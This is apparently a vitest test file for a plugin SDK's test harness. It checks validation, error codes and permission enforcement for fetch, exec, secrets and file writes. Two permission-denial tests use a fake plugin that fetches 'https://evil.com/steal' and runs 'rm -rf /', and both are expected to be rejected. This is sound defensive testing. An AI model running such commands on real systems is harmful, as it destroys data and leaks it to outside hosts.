import { describe, expect, it } from 'vitest'
import { auditOutput, restart, restartManifest, uptimeSensor } from '../../test/fixtures/sample-plugins.ts'
import { defineAction, ErrorCodes, isPluginError, Type } from '../index.ts'
import { testAction, testOutput, testSensor } from './index.ts'

const happy = {
  manifest: restartManifest,
  config: { environment: 'prod' },
  input: { service: 'nginx' },
  secrets: { API_TOKEN: 'secret-token' },
  fetch: { 'api.example.com': { status: 200, body: { healthy: true } } },
  exec: { systemctl: { code: 0 } },
  state: { 'restarts:nginx': 2 },
}

async function rejection(promise: Promise<unknown>) {
  try {
    await promise
  } catch (error) {
    if (!isPluginError(error)) throw error
    return error
  }
  throw new Error('expected the harness to reject')
}

describe('testAction', () => {
  it('runs a plugin that uses fetch, exec, secrets, state and fs, and records every call', async () => {
    const result = await testAction(restart, happy)
    expect(result.output).toEqual({ restarted: true, previousRestarts: 2 })
    expect(result.calls.secrets).toEqual(['API_TOKEN'])
    expect(result.calls.fetch).toEqual([
      {
        url: 'https://api.example.com/services/nginx',
        host: 'api.example.com',
        port: 443,
        method: 'GET',
        headers: { authorization: 'Bearer secret-token' },
        body: undefined,
        timeoutMs: undefined,
      },
    ])
    expect(result.calls.exec).toEqual([
      { command: 'systemctl', args: ['restart', 'nginx'], options: { timeoutMs: 5000 } },
    ])
    expect(result.calls.state).toEqual([
      { op: 'get', key: 'restarts:nginx' },
      { op: 'set', key: 'restarts:nginx', value: 3 },
    ])
    expect(result.state).toEqual({ 'restarts:nginx': 3 })
    expect(result.files).toEqual({ '/var/lib/acme/last-restart.txt': 'prod nginx' })
    expect(result.logs).toEqual([
      { level: 'info', message: 'restarted', fields: { service: 'nginx', code: 0 } },
    ])
  })

  it('answers fetch with a handler function and matches a wildcard host with its port', async () => {
    const seen: string[] = []
    const result = await testAction(restart, {
      ...happy,
      input: { service: 'nginx', notify: true },
      fetch: (req) => {
        seen.push(`${req.method} ${req.host}:${req.port}`)
        return { status: 200, body: '{}' }
      },
    })
    expect(result.output.restarted).toBe(true)
    expect(seen).toEqual(['GET api.example.com:443', 'POST hooks.slack.com:443'])
  })

  it('fails with PERMISSION_DENIED for a host the manifest does not declare', async () => {
    const plugin = defineAction({
      input: Type.Object({}),
      output: Type.Object({}),
      async run(ctx) {
        await ctx.fetch('https://evil.com/steal')
        return {}
      },
    })
    const error = await rejection(
      testAction(plugin, { permissions: { net: ['api.example.com'] }, input: {} }),
    )
    expect(error.code).toBe(ErrorCodes.PERMISSION_DENIED)
    expect(error.message).toContain('net host "evil.com:443" is not declared in permissions.net')
    expect(error.data).toEqual({ permission: 'net', value: 'evil.com:443', reason: 'undeclared' })
  })

  it('fails with PERMISSION_DENIED for an undeclared command and an undeclared secret', async () => {
    const runs = defineAction({
      input: Type.Object({ what: Type.String() }),
      output: Type.Object({}),
      async run(ctx, input) {
        if (input.what === 'exec') await ctx.exec('rm', ['-rf', '/'])
        else await ctx.secrets.get('OTHER_TOKEN')
        return {}
      },
    })
    const exec = await rejection(
      testAction(runs, { manifest: undefined, permissions: { exec: ['ls'] }, input: { what: 'exec' } }),
    )
    expect(exec.code).toBe(ErrorCodes.PERMISSION_DENIED)
    expect(exec.data).toEqual({ permission: 'exec', value: 'rm', reason: 'undeclared' })
    const secret = await rejection(
      testAction(runs, { permissions: { secrets: ['API_TOKEN'] }, input: { what: 'secret' } }),
    )
    expect(secret.code).toBe(ErrorCodes.PERMISSION_DENIED)
    expect(secret.data).toEqual({ permission: 'secrets', value: 'OTHER_TOKEN', reason: 'undeclared' })
  })

  it('fails with reason "ungranted" when the operator did not grant a declared capability', async () => {
    const error = await rejection(
      testAction(restart, {
        ...happy,
        grants: { net: ['api.example.com'], exec: [], secrets: ['API_TOKEN'] },
      }),
    )
    expect(error.code).toBe(ErrorCodes.PERMISSION_DENIED)
    expect(error.data).toEqual({ permission: 'exec', value: 'systemctl', reason: 'ungranted' })
    expect(error.message).toContain('not granted by the operator')
  })

  it('rejects bad input, config and output with the runtime codes and field paths', async () => {
    const input = await rejection(testAction(restart, { ...happy, input: { service: 42 } as never }))
    expect(input.code).toBe(ErrorCodes.INVALID_INPUT)
    expect(input.message).toContain('input.service: must be string, got number 42')

    const missing = await rejection(testAction(restart, { ...happy, input: {} as never }))
    expect(missing.message).toContain('input.service: is required')

    const config = await rejection(testAction(restart, { ...happy, config: { environment: '' } }))
    expect(config.code).toBe(ErrorCodes.INVALID_CONFIG)
    expect(config.message).toContain('config.environment')

    const liar = defineAction({
      input: Type.Object({}),
      output: Type.Object({ count: Type.Integer() }),
      run: () => ({ count: 1.5 }),
    })
    const output = await rejection(testAction(liar, { input: {} }))
    expect(output.code).toBe(ErrorCodes.INVALID_OUTPUT)
    expect(output.message).toContain('output.count: must be integer, got number 1.5')
  })

  it('turns a plain throw into PLUGIN_FAILED, keeps PluginError codes, and keeps the original as cause', async () => {
    const boom = new TypeError('x is undefined')
    const plugin = defineAction({
      input: Type.Object({}),
      output: Type.Object({}),
      run: () => {
        throw boom
      },
    })
    const failed = await rejection(testAction(plugin, { input: {} }))
    expect(failed).toMatchObject({
      code: ErrorCodes.PLUGIN_FAILED,
      message: 'TypeError: x is undefined',
      retryable: false,
    })
    expect(failed.cause).toBe(boom)

    const retryable = await rejection(
      testAction(restart, { ...happy, fetch: { 'api.example.com': { status: 503 } } }),
    )
    expect(retryable).toMatchObject({ code: 'ACME_UNAVAILABLE', retryable: true })
  })

  it('names the missing fake when the plugin calls something the test did not prepare', async () => {
    const error = await rejection(testAction(restart, { ...happy, exec: {} }))
    expect(error.code).toBe(ErrorCodes.TEST_FAKE_MISSING)
    expect(error.message).toContain('exec: { "systemctl"')
  })

  it('matches fetch fakes written as host patterns, after exact hosts', async () => {
    const result = await testAction(restart, {
      ...happy,
      input: { service: 'nginx', notify: true },
      fetch: { 'api.example.com': { body: '{}' }, '*.slack.com:443': { status: 201 } },
    })
    expect(result.calls.fetch.map((c) => c.host)).toEqual(['api.example.com', 'hooks.slack.com'])
  })

  it('rejects a misspelt harness option instead of ignoring it', async () => {
    const error = await rejection(testAction(restart, { ...happy, secret: { API_TOKEN: 'x' } } as never))
    expect(error.code).toBe(ErrorCodes.INVALID_ARGUMENT)
    expect(error.message).toContain(
      'harness: unknown option "secret"; expected manifest, permissions, grants',
    )
  })

  it('refuses a manifest of another kind', async () => {
    const error = await rejection(
      testAction(restart, {
        ...happy,
        manifest: {
          ...restartManifest,
          stavily: { ...restartManifest.stavily, kind: 'output', permissions: {} },
        },
      }),
    )
    expect(error.code).toBe(ErrorCodes.MANIFEST_INVALID)
    expect(error.message).toContain('kind "output"')
  })
})

describe('testSensor', () => {
  const manifest = {
    name: 'uptime',
    version: '1.0.0',
    stavily: {
      kind: 'sensor',
      entry: 'src/index.ts',
      sdk: '^1.0.0',
      permissions: { net: ['status.example.com'] },
    },
  }

  it('returns the events a check emitted, validated', async () => {
    const { events, calls } = await testSensor(uptimeSensor, {
      manifest,
      config: { url: 'https://status.example.com/health' },
      fetch: { 'status.example.com': { status: 503 } },
    })
    expect(events).toEqual([{ type: 'site.down', data: { status: 503 }, dedupeKey: 'down:503' }])
    expect(calls.fetch).toHaveLength(1)
  })

  it('runs a watch loop until isStopping() turns true, without really sleeping', async () => {
    const { events, calls } = await testSensor(uptimeSensor, {
      manifest,
      operation: 'watch',
      maxSleeps: 3,
      config: { url: 'https://status.example.com/' },
      fetch: { 'status.example.com': { status: 200 } },
    })
    expect(events).toHaveLength(3)
    expect(calls.sleeps).toEqual([1000, 1000, 1000])
  })

  it('fails with INVALID_EVENT naming the field when an event does not match the schema', async () => {
    const { defineSensor } = await import('../index.ts')
    const bad = defineSensor({
      event: Type.Object({ status: Type.Integer() }),
      async check(ctx) {
        await ctx.emit({ type: 'x', data: { status: 'down' as never } })
      },
    })
    const error = await rejection(testSensor(bad, {}))
    expect(error.code).toBe(ErrorCodes.INVALID_EVENT)
    expect(error.message).toContain('event.data.status: must be integer')
  })

  it('gives a sensor no file writes and no smtp', async () => {
    const { defineSensor } = await import('../index.ts')
    const sneaky = defineSensor({
      event: Type.Object({}),
      async check(ctx) {
        const loose = ctx as unknown as Record<string, unknown>
        await ctx.emit({ type: 'caps', data: {} })
        if (
          loose.smtp !== undefined ||
          typeof (ctx.fs as unknown as Record<string, unknown>).writeText === 'function'
        ) {
          throw new Error('a sensor must not be able to write or send mail')
        }
      },
    })
    const { events } = await testSensor(sneaky, {})
    expect(events).toHaveLength(1)
  })

  it('lets a sensor run a granted command, and denies one the operator did not grant, naming it', async () => {
    const { defineSensor } = await import('../index.ts')
    const head = defineSensor({
      config: Type.Object({ command: Type.String() }),
      event: Type.Object({ sha: Type.String() }),
      async check(ctx) {
        const r = await ctx.exec(ctx.config.command, ['ls-remote', 'https://git.example.com/app.git'])
        await ctx.emit({ type: 'head', data: { sha: r.stdout.split('\t')[0] ?? '' } })
      },
    })
    const result = await testSensor(head, {
      permissions: { exec: ['$granted'] },
      grants: { exec: ['git'] },
      config: { command: 'git' },
      exec: { git: { stdout: 'abc123\tHEAD\n' } },
    })
    expect(result.events).toEqual([{ type: 'head', data: { sha: 'abc123' } }])
    expect(result.calls.exec).toEqual([
      { command: 'git', args: ['ls-remote', 'https://git.example.com/app.git'], options: {} },
    ])
    const denied = await rejection(
      testSensor(head, {
        permissions: { exec: ['$granted'] },
        grants: { exec: ['git'] },
        config: { command: 'df' },
        exec: { df: { stdout: '' } },
      }),
    )
    expect(denied.code).toBe(ErrorCodes.PERMISSION_DENIED)
    expect(denied.message).toContain('df')
  })
})

describe('testOutput', () => {
  it('writes through the fake file system under a granted prefix, and denies other paths', async () => {
    const permissions = { fs: { read: ['/var/log/stavily'], write: ['/var/log/stavily'] } }
    const result = await testOutput(auditOutput, {
      permissions,
      input: { message: 'deployed' },
      files: { '/var/log/stavily/audit-0.log': 'old' },
    })
    expect(result.output).toBeUndefined()
    expect(result.files).toEqual({
      '/var/log/stavily/audit-0.log': 'old',
      '/var/log/stavily/audit-1.log': 'deployed',
    })

    const denied = await rejection(
      testOutput(auditOutput, {
        permissions: { fs: { read: ['/var/log/stavily'], write: ['/var/log/other'] } },
        input: { message: 'x' },
        files: { '/var/log/stavily/': '' },
      }),
    )
    expect(denied.data).toEqual({
      permission: 'fs.write',
      value: '/var/log/stavily/audit-0.log',
      reason: 'undeclared',
    })
  })
})
